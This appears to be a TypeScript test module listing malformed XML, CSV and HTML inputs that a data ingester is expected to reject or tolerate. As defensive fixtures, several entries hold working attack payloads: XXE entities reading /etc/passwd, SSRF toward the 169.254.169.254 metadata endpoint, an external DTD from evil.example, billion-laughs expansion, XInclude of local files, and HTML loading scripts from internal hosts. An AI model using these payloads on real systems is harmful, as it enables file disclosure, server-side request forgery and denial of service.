import { spelled } from './answers.js';
import { type Expectation, type Misbehave } from './misbehave.js';
import { both, csv, has, html, one, text, xml } from './spoil-records.js';

const unsafe: Expectation = { ends: 'fails', codes: ['SOURCE_UNSAFE'] };
const broken = [
  'SOURCE_CHANGED',
  'SOURCE_TRUNCATED',
  'SOURCE_UNSAFE',
  'SOURCE_NOT_JSON',
  'SOURCE_EMPTY',
  'SOURCE_TOO_LARGE',
  'SOURCE_INCOMPLETE',
];
const fails: Expectation = { ends: 'fails', codes: broken };
const may: Expectation = { ends: 'may complete', codes: broken };

/** A document type in front of the outermost element, and something else in place of a title. */
function declaring(name: string, declarations: string, title: string): Misbehave {
  return {
    name,
    befalls: both(xml, has('title')),
    apply: text((body, { edit }) => {
      const changed = edit(body, ([first, ...rest]) =>
        first === undefined ? [] : [first.set('title', spelled(title)), ...rest],
      );
      return changed.replace(/<(?![?!])(?=\w)/, `<!DOCTYPE x [${declarations}]>\n<`);
    }),
    expects: unsafe,
  };
}

const laughs = Array.from({ length: 10 }, (_, level) => `<!ENTITY l${level + 1} "${`&l${level};`.repeat(10)}">`).join(
  '',
);

const xmlForms: readonly Misbehave[] = [
  declaring('declares a document type', '', 'Road Salt'),
  declaring('reads a file of its reader', '<!ENTITY secret SYSTEM "file:///etc/passwd">', '&secret;'),
  declaring(
    'makes its reader ask another host',
    '<!ENTITY other SYSTEM "http://169.254.169.254/latest/meta-data/">',
    '&other;',
  ),
  declaring(
    'makes its reader fetch declarations',
    '<!ENTITY % all SYSTEM "http://evil.example/all.dtd"> %all;',
    'Road Salt',
  ),
  declaring('laughs a billion times', `<!ENTITY l0 "ha">${laughs}`, '&l10;'),
  declaring('repeats one long text', `<!ENTITY long "${'a'.repeat(100_000)}">`, '&long;'.repeat(1000)),
  {
    name: 'has an entity that nobody declared',
    befalls: both(xml, has('title')),
    apply: one((record) => record.set('title', spelled('Road &nbsp;Salt &unknown; R&D'))),
    expects: may,
  },
  {
    name: 'has a character that no document may have',
    befalls: both(xml, has('title')),
    apply: one((record) => record.set('title', spelled('Road \u0008Salt &#0; &#x1F;'))),
    expects: may,
  },
  {
    name: 'never closes a section of data',
    befalls: both(xml, has('title')),
    apply: one((record) => record.set('title', spelled('<![CDATA[Road Salt'))),
    expects: fails,
  },
  {
    name: 'never closes a comment',
    befalls: both(xml, has('title')),
    apply: one((record) => record.set('title', spelled('<!-- Road Salt'))),
    expects: fails,
  },
  {
    name: 'closes what it never opened',
    befalls: both(xml, has('title')),
    apply: one((record) => record.set('title', spelled('Road</title></b>Salt'))),
    expects: fails,
  },
  {
    name: 'nests elements ten thousand deep',
    befalls: both(xml, has('title')),
    apply: one((record) => record.set('title', spelled('<b>'.repeat(10_000) + '</b>'.repeat(10_000)))),
    expects: may,
  },
  {
    name: 'has an element with a hundred thousand attributes',
    befalls: both(xml, has('title')),
    apply: one((record) =>
      record.set('title', spelled(`<b ${Array.from({ length: 100_000 }, (_, index) => `a${index}=""`).join(' ')}/>`)),
    ),
    expects: may,
  },
  {
    name: 'includes another document',
    befalls: both(xml, has('title')),
    apply: one((record) =>
      record.set(
        'title',
        spelled('<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href="file:///etc/passwd" parse="text"/>'),
      ),
    ),
    expects: may,
  },
  {
    name: 'says that it is written in another charset',
    befalls: xml,
    apply: text((body) => body.replace(/^<\?xml[^>]*\?>/, '<?xml version="1.0" encoding="UTF-7"?>')),
    expects: may,
  },
];

const csvForms: readonly Misbehave[] = [
  {
    name: 'never closes a quote',
    befalls: both(csv, has('title')),
    apply: one((record) => record.set('title', spelled('"Road Salt'))),
    expects: may,
  },
  {
    name: 'has quotes in the middle of a cell',
    befalls: both(csv, has('title')),
    apply: one((record) => record.set('title', spelled('12" pipe'))),
    expects: may,
  },
  {
    name: 'has a comma that no quote protects',
    befalls: both(csv, has('title')),
    apply: one((record) => record.set('title', spelled('Road Salt, Sand'))),
    expects: may,
  },
  {
    name: 'has a line break that no quote protects',
    befalls: both(csv, has('title')),
    apply: one((record) => record.set('title', spelled('Road\r\nSalt'))),
    expects: may,
  },
  {
    name: 'separates its cells otherwise',
    befalls: csv,
    apply: text((body) => body.replaceAll(',', ';')),
    expects: fails,
  },
  {
    name: 'has a column more',
    befalls: csv,
    apply: text((body) => body.replace('NoticeId,', 'NoticeId,NewColumn,')),
    expects: fails,
  },
  { name: 'has a column less', befalls: csv, apply: text((body) => body.replace('Title,', '')), expects: fails },
  {
    name: 'has its columns in another order',
    befalls: csv,
    apply: text((body) => body.replace('NoticeId,Title', 'Title,NoticeId')),
    expects: fails,
  },
  {
    name: 'has no line with the names of its columns',
    befalls: csv,
    apply: text((body) => body.slice(body.indexOf('\n') + 1)),
    expects: fails,
  },
  {
    name: 'has nothing but the names of its columns',
    befalls: csv,
    apply: text((body) => body.slice(0, body.indexOf('\n') + 1)),
    expects: fails,
  },
  {
    name: 'ends its lines otherwise',
    befalls: csv,
    apply: text((body) => body.replaceAll('\r\n', '\n')),
    expects: { ends: 'completes' },
  },
  {
    name: 'ends its lines as long ago',
    befalls: csv,
    apply: text((body) => body.replaceAll('\r\n', '\r')),
    expects: fails,
  },
  {
    name: 'has empty lines',
    befalls: csv,
    apply: text((body) => body.replaceAll('\r\n', '\r\n\r\n')),
    expects: { ends: 'completes' },
  },
];

const htmlForms: readonly Misbehave[] = [
  {
    name: 'shows its records with a script',
    befalls: html,
    apply: text((body) => body.replace(/<main>[^]*<\/main>/, '<main><div id="app"></div></main>')),
    expects: fails,
  },
  {
    name: 'hides its records in a comment',
    befalls: html,
    apply: text((body) => body.replace(/<main>[^]*<\/main>/, (main) => `<!-- ${main} -->`)),
    expects: fails,
  },
  {
    name: 'leads on without a redirect',
    befalls: html,
    apply: text((body) =>
      body.replace(
        '<head>',
        '<head><meta http-equiv="refresh" content="0;url=http://169.254.169.254/"><base href="file:///etc/">',
      ),
    ),
    expects: may,
  },
  {
    name: 'loads things from everywhere',
    befalls: html,
    apply: text((body) =>
      body.replace(
        '<main>',
        '<main><iframe src="http://10.0.0.1/"></iframe><img src="http://10.0.0.1/x.png"><script src="http://10.0.0.1/x.js"></script><object data="file:///etc/passwd"></object>',
      ),
    ),
    expects: may,
  },
  {
    name: 'nests its page a hundred thousand deep',
    befalls: html,
    apply: text((body) => body.replace('<main>', `<main>${'<div>'.repeat(100_000)}`)),
    expects: { ends: 'fails', codes: ['SOURCE_TOO_LARGE'] },
  },
  {
    name: 'has a page of two hundred thousand elements',
    befalls: html,
    apply: text((body) => body.replace('<main>', `<main>${'<p>x</p>'.repeat(200_000)}`)),
    expects: { ends: 'fails', codes: ['SOURCE_TOO_LARGE'] },
  },
  {
    name: 'closes none of its elements',
    befalls: html,
    apply: text((body) => body.replaceAll(/<\/(?!body|html|main|script|style|title)[a-z]+>/g, '')),
    expects: may,
  },
  {
    name: 'prints a form for signing in',
    befalls: html,
    apply: text((body) =>
      body.replace(
        /<main>[^]*<\/main>/,
        '<main><form action="/login"><input name="user"><input type="password"></form></main>',
      ),
    ),
    expects: fails,
  },
];

/** What only XML, only tables or only pages can have. */
export const writtenForms: readonly Misbehave[] = [...xmlForms, ...csvForms, ...htmlForms];
